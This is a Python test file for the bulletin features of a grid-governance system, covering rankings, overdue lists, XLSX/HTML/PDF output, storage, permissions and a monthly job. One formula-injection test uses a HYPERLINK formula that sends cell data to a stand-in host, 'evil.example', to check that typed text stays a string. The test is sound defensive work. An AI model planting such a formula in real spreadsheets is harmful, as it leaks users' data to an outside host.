"""Bulletins (通报): the data of a period, the XLSX, HTML and PDF files, storing and auditing, the monthly job.

The world is tests/domains/evaluation/bulletin_world.py: November 2026 with five cases due (three on time, one
overdue, one late in the east street), one in October, and the area minimum sample lowered to 3, so the west
street is ranked and the east street is listed as 样本不足.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from gridgov.config import get_settings
from gridgov.core.db import create_db_engine, transaction
from gridgov.core.errors import Forbidden, Invalid
from gridgov.domains.auth.enums import Role
from gridgov.domains.auth.models import AuditEntry
from gridgov.domains.evaluation import bulletins, jobs
from gridgov.domains.evaluation.enums import BulletinFormat, Dimension
from gridgov.domains.evaluation.models import Bulletin, Campaign, CampaignCase
from gridgov.domains.triage.enums import HotspotStatus
from gridgov.domains.triage.models import Hotspot
from tests.domains.cases.world import STREET_E, STREET_W, World
from tests.domains.evaluation.bulletin_world import (
    November,
    build_november,
    commit_november,
    sql_engine,  # noqa: F401 - fixture
    user,
)

NOW = dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC)  # 20:00 in Shanghai
CHROMIUM = shutil.which(get_settings().chromium_path)
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium (GRIDGOV_CHROMIUM_PATH) on this machine")


@pytest.fixture
def november(db: Session, world: World, sql_engine: None) -> November:  # noqa: F811 - the fixture
    return build_november(db, world)


def nov(db: Session, level: Dimension = Dimension.street, **options) -> bulletins.BulletinData:
    return bulletins.build(db=db, period=bulletins.parse_period("2026-11"), level=level, now=NOW, **options)


def pdf_pages(data: bytes) -> int:
    return len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", data))


def by_code(figures: list[bulletins.Figure]) -> dict[str, bulletins.Figure]:
    return {f.code: f for f in figures}


# --- the data ---------------------------------------------------------------------------------------------------


def test_a_bulletin_holds_the_figures_the_rankings_the_overdue_list_and_the_top_matter_types(db, november):
    data = nov(db)
    assert data.title == "金水区2026年11月网格化服务管理工作通报"
    assert data.period_text == "2026-11（2026-11-01 至 2026-11-30）" and data.previous_label == "2026-10"
    assert data.has_data
    figures = by_code(data.figures)
    assert (figures["due"].value, figures["closed"].value, figures["due"].previous) == (5, 4, 1)
    assert figures["closure_rate"].value == pytest.approx(0.8) and figures["closure_rate"].previous == 1.0
    assert figures["on_time_rate"].value == pytest.approx(0.6)
    assert figures["on_time_rate"].change == pytest.approx(-0.4)
    assert figures["satisfaction_rate"].value is None  # nobody rated: no rate, not 0 %

    west, east = data.ranking.rows
    assert (west.label, west.rank, west.ranked, west.note, west.sample) == ("经八路街道", 1, True, "", 4)
    assert (east.label, east.rank, east.ranked, east.note) == ("花园路街道", None, False, "样本不足")
    assert east.values["on_time_closure_rate"] == 0.0  # listed with its values
    assert data.units.rows[0].label == f"{STREET_W}环卫所" and data.units.rows[0].rank == 1

    overdue = {line.number: line for line in data.overdue}
    assert november.overdue.number in overdue and data.overdue_total == len(data.overdue)
    line = overdue[november.overdue.number]
    assert (line.street, line.unit, line.matter) == ("经八路街道", f"{STREET_W}环卫所", "暴露垃圾")
    assert line.hours_overdue == 125.0  # due Wednesday 15:00, the bulletin written Monday 20:00
    assert november.late.number not in overdue  # closed (late), so no longer on the list

    assert [(m.code, m.count, m.share, m.previous, m.change) for m in data.matter_types] == [("SJ0102", 6, 1.0, 1, 5)]
    assert [page.code for page in data.streets] == [STREET_W, STREET_E]
    west_page = data.streets[0]
    assert by_code(west_page.figures)["due"].value == 4
    assert [(r.label, r.rank) for r in west_page.ranking.rows] == [("经八路北社区", 1)]
    assert data.streets[1].ranking.rows[0].note == "样本不足"


def test_a_street_bulletin_ranks_its_communities_and_lists_only_its_own_cases(db, november, world):
    data = nov(db, scope_path=world.area(STREET_E).path, level=Dimension.community)
    assert data.title.startswith("花园路街道2026年11月") and data.scope_code == STREET_E
    assert [r.key for r in data.ranking.rows] == [f"{STREET_E}001"]
    assert by_code(data.figures)["due"].value == 1
    assert data.overdue == [] and [p.code for p in data.streets] == [STREET_E]
    with pytest.raises(Invalid, match="ranks what lies below it"):
        nov(db, scope_path=world.area(STREET_E).path)  # a street's bulletin cannot rank streets


def test_bad_periods_levels_and_formats_are_clear_errors():
    with pytest.raises(Invalid, match="bad period '2026-13'.*2026-Q4"):
        bulletins.parse_period("2026-13")
    with pytest.raises(Invalid, match="unknown bulletin level 'unit': use one of street, community, grid"):
        bulletins.parse_level("unit")
    with pytest.raises(Invalid, match="unknown bulletin format 'docx'"):
        bulletins.parse_formats(["xlsx", "docx"])


def test_a_period_without_data_gives_a_bulletin_that_says_so(db, november):
    data = bulletins.build(db=db, period=bulletins.parse_period("2025-03"), level=Dimension.street, now=NOW)
    assert not data.has_data
    assert all(row.rank is None for row in data.ranking.rows) and data.matter_types == []
    assert data.overdue == [] and data.overdue_total == 0  # today's overdue cases were reported after it
    html = bulletins.to_html(data)
    assert 'id="no-data"' in html and "本期无数据" in html
    notes = load_workbook(io.BytesIO(bulletins.to_xlsx(data)))["说明"]
    assert any("本期无数据" in str(cell.value) for row in notes.iter_rows() for cell in row if cell.value)


# --- the three formats ------------------------------------------------------------------------------------------


def test_the_xlsx_opens_with_a_notes_sheet_the_ranking_rows_and_the_not_ranked_marks(db, november):
    workbook = load_workbook(io.BytesIO(bulletins.to_xlsx(nov(db))))
    assert workbook.sheetnames == [
        "说明",
        "主要指标",
        "街道排名",
        "部门排名",
        "超期案件",
        "高发事项",
        "热点",
        "街道-经八路街道",
        "街道-花园路街道",
    ]
    ranking = workbook["街道排名"]
    assert ranking["A2"].value.startswith("统计周期：2026-11（2026-11-01 至 2026-11-30）")
    assert "生成：系统（定时生成） · 2026-11-30 20:00" in ranking["D2"].value
    assert ranking.oddHeader.center.text == "金水区2026年11月网格化服务管理工作通报 · 2026-11"
    headers = [cell.value for cell in ranking[4]]
    assert headers[:6] == ["排名", "名称", "综合得分", "上期得分", "变化", "样本量"] and headers[-1] == "备注"
    rows = [[cell.value for cell in row] for row in ranking.iter_rows(min_row=5)]
    assert rows[0][:2] == [1, "经八路街道"] and rows[0][-1] is None
    assert rows[1][:2] == [None, "花园路街道"] and rows[1][-1] == "样本不足"
    closure = headers.index("结案率") + 1
    assert ranking.cell(row=5, column=closure).value == 0.75
    assert ranking.cell(row=5, column=closure).number_format == "0.00%"
    assert ranking.column_dimensions["B"].width >= 10
    figures = {row[0].value: row for row in workbook["主要指标"].iter_rows(min_row=5)}
    assert figures["按期结案率"][1].value == pytest.approx(0.6) and figures["按期结案率"][1].number_format == "0.00%"
    assert figures["受理数"][3].value == 5  # the change against October
    overdue = [row[0].value for row in workbook["超期案件"].iter_rows(min_row=5)]
    assert november.overdue.number in overdue
    street = workbook["街道-花园路街道"]
    assert any(row[-1].value == "样本不足" for row in street.iter_rows())


def test_text_a_resident_typed_stays_text_in_the_xlsx(db, november):
    # NOTE: openpyxl writes a string starting with "=" as a formula: a title typed as one would run in Excel
    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    november.overdue.title = typed
    db.flush()
    data = nov(db)
    sheet = load_workbook(io.BytesIO(bulletins.to_xlsx(data)))["超期案件"]
    [cell] = [row[1] for row in sheet.iter_rows(min_row=5) if row[0].value == november.overdue.number]
    assert cell.value == typed and cell.data_type == "s"
    workbook = load_workbook(io.BytesIO(bulletins.to_xlsx(data)))
    formulas = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_the_html_is_one_standalone_page_with_the_ranking_and_a_page_per_street(db, november):
    html = bulletins.to_html(nov(db))
    assert html.startswith("<!DOCTYPE html>") and '<html lang="zh-CN">' in html
    assert "<script" not in html and "<link" not in html and "http" not in html.split("<body>")[0]
    assert '"Noto Sans CJK SC", sans-serif' in html and "@page { size: A4" in html
    ranking = html[html.index('id="ranking"') : html.index('id="units"')]
    assert "经八路街道" in ranking and "花园路街道" in ranking and "样本不足" in ranking and "75.00%" in ranking
    assert html.count('<section class="street"') == 2 and "page-break-before: always" in html
    assert 'id="street-410105001"' in html and "经八路北社区" in html
    assert november.overdue.number in html and 'id="no-data"' not in html


@needs_chromium
def test_the_pdf_is_printed_from_the_html_with_a_page_per_street(db, november):
    data = bulletins.to_pdf(nov(db))
    assert data.startswith(b"%PDF")
    assert pdf_pages(data) >= 3  # the district's sections, then one page for each of the two streets


@pytest.fixture
def no_chromium(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("GRIDGOV_CHROMIUM_PATH", "/nonexistent/chromium")
    get_settings.cache_clear()
    try:
        yield
    finally:
        get_settings.cache_clear()  # NOTE: monkeypatch restores the environment after this fixture ends


def test_without_chromium_the_pdf_is_refused_naming_the_setting(db, november, no_chromium):
    assert not bulletins.pdf_available()
    with pytest.raises(bulletins.PdfUnavailable, match="GRIDGOV_CHROMIUM_PATH"):
        bulletins.to_pdf(nov(db))
    with pytest.raises(bulletins.PdfUnavailable, match="GRIDGOV_CHROMIUM_PATH"):
        bulletins.generate(
            db=db, period=bulletins.parse_period("2026-11"), level=Dimension.street, formats=["pdf"], actor=None
        )
    assert db.scalar(select(func.count()).select_from(Bulletin)) == 0


# --- storing ----------------------------------------------------------------------------------------------------


def test_generating_stores_one_row_per_format_replaces_it_the_next_time_and_is_audited(db, november):
    leader = user(db, "leader", Role.district_leader, "CENTRE", None, "区领导")
    period = bulletins.parse_period("2026-11")
    first = bulletins.generate(db=db, period=period, level=Dimension.street, formats=["xlsx", "html"], actor=leader)
    assert [(b.scope, b.format) for b in first] == [("street", "xlsx"), ("street", "html")]
    assert {b.period for b in first} == {"2026-11"}
    assert first[0].filename == "bulletin-2026-11-street.xlsx" and first[1].content_type.startswith("text/html")
    assert first[0].generated_by_user_id == leader.user_id and first[0].size_bytes == len(first[0].data)
    again = bulletins.generate(db=db, period=period, level="street", formats=["html"], actor=leader)
    assert again[0].id == first[1].id  # replaced, not duplicated
    assert db.scalar(select(func.count()).select_from(Bulletin)) == 2
    audits = list(db.scalars(select(AuditEntry).where(AuditEntry.action == "bulletin.generate")))
    assert len(audits) == 2 and audits[0].actor_user_id == leader.user_id
    assert audits[0].detail["period"] == "2026-11" and audits[0].detail["formats"] == ["xlsx", "html"]


def test_who_gets_which_bulletins(db, november, world):
    leader = user(db, "leader", Role.district_leader, "CENTRE", None, "区领导")
    street = user(db, "street_e", Role.street_dispatcher, f"{STREET_E}-CYZX", STREET_E, "东街道派遣员")
    secretary = user(db, "sec", Role.community_secretary, f"{STREET_W}001-JWH", f"{STREET_W}001", "书记")
    assert bulletins.bulletin_scope(db=db, actor=leader) is None
    assert bulletins.bulletin_scope(db=db, actor=street).code == STREET_E
    with pytest.raises(Forbidden, match="bulletins are made for the district or a street"):
        bulletins.bulletin_scope(db=db, actor=secretary)
    period = bulletins.parse_period("2026-11")
    bulletins.generate(db=db, period=period, level=Dimension.street, formats=["html"], actor=leader)
    own = bulletins.generate(
        db=db,
        period=period,
        level=Dimension.community,
        formats=["html"],
        actor=street,
        scope_path=world.area(STREET_E).path,
    )
    assert own[0].scope == f"community@{STREET_E}"
    assert {b.scope for b in bulletins.list_bulletins(db=db, actor=leader)} == {"street", f"community@{STREET_E}"}
    assert [b.id for b in bulletins.list_bulletins(db=db, actor=street)] == [own[0].id]


# --- the monthly job --------------------------------------------------------------------------------------------


def test_the_monthly_job_writes_last_months_bulletin_once(fresh_database_url, settings):
    commit_november(fresh_database_url)
    engine = create_db_engine(fresh_database_url, settings)
    try:
        assert jobs.monthly_bulletins(engine=engine, now=dt.datetime(2026, 11, 20, 4, 0, tzinfo=dt.UTC)) == [
            "2026-10 xlsx",
            "2026-10 html",
            *(["2026-10 pdf"] if CHROMIUM else []),
        ]
        december_first = dt.datetime(2026, 11, 30, 16, 30, tzinfo=dt.UTC)  # 00:30 on 1 December in Shanghai
        written = jobs.monthly_bulletins(engine=engine, now=december_first)
        assert written[:2] == ["2026-11 xlsx", "2026-11 html"]
        assert jobs.monthly_bulletins(engine=engine, now=december_first) == []  # once only
        assert jobs.monthly_bulletins(engine=engine, now=december_first + dt.timedelta(days=3)) == []
        with transaction(engine, write=False) as db:
            stored = list(db.scalars(select(Bulletin).where(Bulletin.period == "2026-11").order_by(Bulletin.id)))
            assert [b.format for b in stored] == [BulletinFormat(w.split()[1]) for w in written]
            assert all(b.scope == "street" and b.generated_by_user_id is None for b in stored)
            workbook = load_workbook(io.BytesIO(stored[0].data))
            assert [row[1].value for row in workbook["街道排名"].iter_rows(min_row=5)] == ["经八路街道", "花园路街道"]
            audits = db.scalars(select(AuditEntry).where(AuditEntry.action == "bulletin.generate")).all()
            assert [a.detail["period"] for a in audits] == ["2026-10", "2026-11"]
            assert audits[1].actor_role == "system" and audits[1].detail["scheduled"] is True
    finally:
        engine.dispose()


def test_a_second_writer_of_the_same_month_leaves_the_first_ones_rows(db, november):
    data = nov(db)
    files = bulletins.render(data, [BulletinFormat.xlsx])
    first = bulletins.insert_missing(db=db, period_label="2026-11", scope="street", files=files)
    assert len(first) == 1
    other = bulletins.render(bulletins.build(db=db, period=data.period, level=Dimension.street), [BulletinFormat.xlsx])
    assert bulletins.insert_missing(db=db, period_label="2026-11", scope="street", files=other) == []
    db.refresh(first[0])
    assert first[0].data == files[0].data


def test_a_campaigns_bulletin_counts_only_its_cases(db, november):
    campaign = Campaign(code="zz-2026-11", name="垃圾专项整治", starts_at=NOW, ends_at=NOW)
    db.add(campaign)
    db.flush()
    for case in (november.on_time[0], november.late):
        db.add(CampaignCase(campaign_id=campaign.id, case_id=case.id, tagged_at=NOW))
    db.flush()
    data = nov(db, campaign=campaign)
    assert data.title == "专项督查“垃圾专项整治”2026年11月网格化服务管理工作通报" and data.campaign == "zz-2026-11"
    figures = by_code(data.figures)
    assert (figures["due"].value, figures["closed"].value, figures["on_time_rate"].value) == (2, 2, 0.5)
    assert data.overdue == [] and data.hotspots == []
    assert bulletins.file_name(data, BulletinFormat.pdf) == "bulletin-2026-11-campaign-zz-2026-11.pdf"
    assert bulletins.scope_key(Dimension.street, None, campaign) == "campaign:zz-2026-11"


def test_the_hotspots_are_the_open_or_escalated_ones_of_the_period_hottest_first(db, november, world):
    def spot(title: str, heat: float, status=HotspotStatus.open, street=STREET_W, first=NOW - dt.timedelta(days=9)):
        db.add(
            Hotspot(
                status=status,
                title=title,
                size=7,
                heat=heat,
                first_at=first,
                last_at=first + dt.timedelta(days=3),
                street_id=world.area(street).id,
                window_start=first,
                window_end=NOW,
                refreshed_at=NOW,
            )
        )

    spot("经三路夜市油烟", 4.0)
    spot("花园路噪声扰民", 9.5, status=HotspotStatus.escalated, street=STREET_E)
    spot("已排除的热点", 20.0, status=HotspotStatus.dismissed)
    spot("跨月的热点", 30.0, first=dt.datetime(2026, 10, 29, tzinfo=dt.UTC))  # its cases run into November
    spot("去年的热点", 50.0, first=dt.datetime(2025, 11, 1, tzinfo=dt.UTC))
    db.flush()
    data = nov(db)
    assert [(h.title, h.status) for h in data.hotspots] == [
        ("跨月的热点", "待研判"),
        ("花园路噪声扰民", "已立案督办"),
        ("经三路夜市油烟", "待研判"),
    ]
    assert data.hotspots[1].street == "花园路街道" and data.hotspots[1].span_days == 3.0
    west = nov(db, level=Dimension.community, scope_path=world.area(STREET_W).path)
    assert [h.title for h in west.hotspots] == ["跨月的热点", "经三路夜市油烟"]
